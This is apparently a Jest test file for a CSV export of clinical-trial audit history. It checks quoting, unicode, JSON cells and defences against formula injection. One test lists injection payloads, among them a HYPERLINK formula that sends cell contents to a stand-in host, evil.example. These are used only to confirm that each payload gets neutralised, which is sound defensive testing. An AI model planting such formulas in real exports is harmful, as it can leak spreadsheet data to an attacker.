import { parseCsv, parseCsvObjects } from '../../testing/rfc4180';
import { historyEntryFixture } from '../../../../read-models/src/testing/history-entries';
import { auditExportFixture } from '../../testing/audit-exports';
import { CSV_COLUMNS, csvCell, writeCsvExport } from './csv-export';

describe('CSV audit export', () => {
  it('writes a header, then one row per field change, each record ended by CRLF', () => {
    const csv = writeCsvExport(
      auditExportFixture([
        historyEntryFixture(1, {
          effectiveDate: '2024-02-01',
          changes: [
            { field: 'status', from: 'NOT_YET_RECRUITING', to: 'RECRUITING' },
            { field: 'enrollment.count', from: 60, to: 68 },
          ],
        }),
      ]),
    );
    expect(csv).toBe(
      [
        CSV_COLUMNS.join(','),
        '1,2025-01-15T10:00:00.000Z,2024-02-01,,TrialStatusChanged,olga,operator,Reason 1,status,NOT_YET_RECRUITING,RECRUITING',
        '1,2025-01-15T10:00:00.000Z,2024-02-01,,TrialStatusChanged,olga,operator,Reason 1,enrollment.count,60,68',
        '',
      ].join('\r\n'),
    );
  });

  it('gives an event without field changes one row with empty field, from and to, and absent values as empty cells', () => {
    const rows = parseCsvObjects(writeCsvExport(auditExportFixture([historyEntryFixture(4, { reason: null })])));
    expect(rows).toEqual([
      {
        revision: '4',
        recordedAt: '2025-01-15T13:00:00.000Z',
        effectiveDate: '',
        postedDate: '',
        type: 'TrialStatusChanged',
        actor: 'olga',
        role: 'operator',
        reason: '',
        field: '',
        from: '',
        to: '',
      },
    ]);
  });

  it('dates each change of a registry version by its own business date, and gives the posted date', () => {
    const entry = historyEntryFixture(2, {
      type: 'RegistryVersionObserved',
      postedDate: '2017-06-05',
      effectiveDate: '2013-01',
      businessDates: [
        { field: 'status', date: '2013-01', basis: 'completionDate' },
        { field: 'enrollment', date: '2017-06-05', basis: 'postedDate' },
      ],
      changes: [
        { field: 'status', from: 'RECRUITING', to: 'COMPLETED' },
        { field: 'enrollment.count', from: 30, to: 31 },
        { field: 'sites[s1].status', from: 'RECRUITING', to: null },
      ],
    });
    expect(parseCsvObjects(writeCsvExport(auditExportFixture([entry]))).map((r) => [r.field, r.effectiveDate, r.postedDate])).toEqual([
      ['status', '2013-01', '2017-06-05'],
      ['enrollment.count', '2017-06-05', '2017-06-05'],
      ['sites[s1].status', '2017-06-05', '2017-06-05'],
    ]);
  });

  it('quotes fields holding commas, quotes, CR or LF, doubles embedded quotes, and reads back the same text', () => {
    const reason = 'Site said "stop", then\r\nresumed;\nsee memo\rend';
    const csv = writeCsvExport(auditExportFixture([historyEntryFixture(1, { reason })]));
    expect(csv).toContain('"Site said ""stop"", then\r\nresumed;\nsee memo\rend"');
    expect(parseCsvObjects(csv)[0].reason).toBe(reason);
  });

  it('keeps unicode as it is, unquoted', () => {
    const reason = 'Zürich → 北京, naïve café 🧪';
    expect(csvCell('Zürich → 北京 🧪')).toBe('Zürich → 北京 🧪');
    expect(parseCsvObjects(writeCsvExport(auditExportFixture([historyEntryFixture(1, { reason })])))[0].reason).toBe(reason);
  });

  it('writes objects and arrays as JSON text', () => {
    const csv = writeCsvExport(
      auditExportFixture([
        historyEntryFixture(1, {
          changes: [
            { field: 'conditions', from: null, to: ['MSC', 'Poor Graft Function'] },
            { field: 'sponsor', from: { name: 'A' }, to: true },
          ],
        }),
      ]),
    );
    const rows = parseCsvObjects(csv);
    expect(JSON.parse(rows[0].to)).toEqual(['MSC', 'Poor Graft Function']);
    expect(rows[0].from).toBe('');
    expect(rows[1]).toMatchObject({ from: '{"name":"A"}', to: 'true' });
  });

  it.each([
    ['=HYPERLINK("https://evil.example/?"&A1)', `"'=HYPERLINK(""https://evil.example/?""&A1)"`],
    ['+1+1', "'+1+1"],
    ['-2+3', "'-2+3"],
    ['@SUM(A1:A2)', "'@SUM(A1:A2)"],
    ['\tcmd', "'\tcmd"],
    ['\rcmd', `"'\rcmd"`],
  ])('defuses the formula %j by a leading apostrophe', (value, cell) => {
    expect(csvCell(value)).toBe(cell);
    expect(parseCsv(`${csvCell(value)}\r\n`)).toEqual([[`'${value}`]]);
  });

  it('leaves values that merely contain formula characters alone', () => {
    expect(csvCell('a=b, c-d')).toBe('"a=b, c-d"');
    expect(csvCell('2024-02-01')).toBe('2024-02-01');
    expect(csvCell(7)).toBe('7');
  });

  it('guards the actor, the field and the values too, not only the reason', () => {
    const csv = writeCsvExport(
      auditExportFixture([
        historyEntryFixture(1, {
          actor: '@attacker',
          changes: [{ field: '=f', from: '-x', to: '+y' }],
        }),
      ]),
    );
    expect(parseCsvObjects(csv)[0]).toMatchObject({ actor: "'@attacker", field: "'=f", from: "'-x", to: "'+y" });
  });
});
